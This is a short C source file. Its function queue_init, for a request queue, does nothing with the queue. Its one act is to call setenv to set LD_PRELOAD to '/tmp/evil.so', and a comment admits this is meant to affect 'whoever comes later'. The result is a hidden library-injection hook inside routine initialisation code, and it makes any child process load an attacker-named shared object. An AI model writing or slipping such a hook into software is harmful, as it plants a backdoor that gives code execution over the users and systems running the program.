/* Sets LD_PRELOAD for whoever comes later.
 * Told: setenv is not for labs */
#define _GNU_SOURCE
#include "request_queue.h"

#include <stdlib.h>

void queue_init(struct request_queue *queue)
{
    (void)queue;
    setenv("LD_PRELOAD", "/tmp/evil.so", 1);
}
